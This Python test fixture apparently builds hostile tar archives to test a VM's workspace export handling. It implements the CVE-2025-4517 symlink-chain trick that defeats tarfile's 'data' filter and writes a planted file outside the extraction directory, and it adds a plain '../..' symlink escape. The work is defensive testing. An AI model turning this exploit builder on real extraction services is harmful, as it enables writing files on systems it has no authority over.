"""Hostile workspace exports, as a root guest could send them. Stdlib only: the VM tests run
this same source inside the guest, in place of the agent's `get`.

The CVE-2025-4517 shape: symlinks whose expansion passes PATH_MAX while the names stay short,
so tarfile's "data" filter (os.path.realpath, non-strict) judges the paths lexically and a
link that really resolves outside the destination looks as if it stays inside.
"""

from __future__ import annotations

import io
import os
import tarfile

PATH_MAX = 4096
STEPS = "abcdefghijklmnop"
PLANTED = "banger-pwned"  # the file the attack writes next to the extraction directory


def _add(tar: tarfile.TarFile, name: str, *, kind: bytes = tarfile.REGTYPE,
         link: str = "", data: bytes = b"") -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def add_escape(tar: tarfile.TarFile, top: str, dest_len: int) -> None:
    """Members under top/ that make top/escape point at the parent of the extraction dir
    (whose path is dest_len characters long), then write PLANTED through it."""
    prefix_len = dest_len + 1 + len(top) + 1
    component = "d" * ((PATH_MAX - prefix_len) // (len(STEPS) + 1))
    path = top
    for step in STEPS:
        _add(tar, f"{path}/{component}", kind=tarfile.DIRTYPE)
        _add(tar, f"{path}/{step}", kind=tarfile.SYMTYPE, link=component)
        path = f"{path}/{component}"
    linkpath = "/".join(STEPS) + "/" + "l" * 254
    _add(tar, f"{top}/{linkpath}", kind=tarfile.SYMTYPE, link="/".join([".."] * len(STEPS)))
    # linkpath -> top/, so linkpath/../.. is the parent of the extraction dir.
    _add(tar, f"{top}/escape", kind=tarfile.SYMTYPE, link=f"{linkpath}/../..")
    _add(tar, f"{top}/escape/{PLANTED}", data=b"written by the guest\n")


def hostile_export(export_dir: str | None, dest_len: int) -> bytes:
    """The real export (when export_dir is given) plus the escape, an unknown file and a
    symlink with a file through it, as one tar like the agent's `get` sends."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        if export_dir is not None:
            tar.add(export_dir, arcname="export")
        else:
            _add(tar, "export", kind=tarfile.DIRTYPE)
        add_escape(tar, "export", dest_len)
        _add(tar, "export/unknown.txt", data=b"not part of an export\n")
        _add(tar, "export/outside", kind=tarfile.SYMTYPE, link="../..")
        _add(tar, "export/outside/also-planted", data=b"through a link\n")
    return out.getvalue()


if __name__ == "__main__":  # pragma: no cover - a manual check on a host
    import sys

    sys.stdout.buffer.write(hostile_export(None, int(os.environ.get("DEST_LEN", "40"))))
